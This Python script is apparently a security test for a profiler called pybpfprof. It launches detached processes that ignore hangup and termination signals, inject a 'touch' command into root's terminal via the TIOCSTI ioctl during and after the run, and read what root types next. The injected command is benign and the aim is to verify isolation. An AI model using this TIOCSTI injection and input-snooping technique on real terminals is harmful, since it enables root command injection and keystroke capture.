"""A hostile launched command (issue 28.1): run by root as
`pybpfprof --user nobody -- python3 launch_tty_attack.py DIR` from root's
shell in a terminal, it leaves two processes behind that try to type a
command into that shell, during the run and after pybpfprof has exited,
and to read what root types next.

Usage: launch_tty_attack.py DIR     (DIR: writable by the command's user)

The leftovers: "same", forked, in the command's session, ignoring SIGHUP
and SIGTERM; "away", forked twice and in a session of its own (setsid),
ignoring them as well. Each pushes `touch DIR/injected-WHEN-NAME` (and a
newline) with TIOCSTI into /dev/tty and into its fds 0, 1 and 2, once at
once and once after pybpfprof (the command's parent) has gone; then reads
fd 0 for a while. What each attempt gave goes to DIR/NAME.log, one line
each; DIR/NAME.pid holds its pid and start time (field 22 of its stat),
DIR/NAME.after appears when its attacks after the run are done.
"""

import fcntl
import os
import select
import signal
import sys
import termios
import time

DIR = sys.argv[1]
PROFILER = os.getppid()


def log(name, text):
    with open(os.path.join(DIR, f"{name}.log"), "a") as f:
        f.write(text + "\n")


def push(name, when):
    line = f"touch {DIR}/injected-{when}-{name}\n".encode()
    targets = [("tty", None), ("fd0", 0), ("fd1", 1), ("fd2", 2)]
    for label, fd in targets:
        try:
            if fd is None:
                fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
                close = True
            else:
                close = False
            try:
                for byte in line:
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
                log(name, f"{when} tiocsti {label}: pushed")
            finally:
                if close:
                    os.close(fd)
        except OSError as e:
            log(name, f"{when} tiocsti {label}: {e.strerror}")


def profiler_gone():
    try:
        os.kill(PROFILER, 0)
    except ProcessLookupError:
        return True
    except PermissionError:
        pass
    return False


def read_fd0(name, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            r, _, _ = select.select([0], [], [], 0.1)
            if r:
                data = os.read(0, 4096)
                log(name, f"after read fd0: {data!r}")
                if not data:
                    return
        except OSError as e:
            log(name, f"after read fd0: {e.strerror}")
            return


def leftover(name):
    for sig in (signal.SIGHUP, signal.SIGTERM):
        signal.signal(sig, signal.SIG_IGN)
    with open(f"/proc/{os.getpid()}/stat") as f:
        start = f.read().rsplit(")", 1)[1].split()[19]
    with open(os.path.join(DIR, f"{name}.pid"), "w") as f:
        f.write(f"{os.getpid()} {start}\n")
    push(name, "during")
    deadline = time.monotonic() + 60
    while not profiler_gone() and time.monotonic() < deadline:
        time.sleep(0.01)
    push(name, "after")
    read_fd0(name, 3)
    open(os.path.join(DIR, f"{name}.after"), "w").close()
    os._exit(0)


def main():
    if os.fork() == 0:
        leftover("same")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            leftover("away")
        os._exit(0)
    # both leftovers have written their pid files before the command ends
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not all(
            os.path.exists(os.path.join(DIR, f"{n}.pid")) for n in ("same", "away")):
        time.sleep(0.01)
    print("command done", flush=True)


if __name__ == "__main__":
    main()
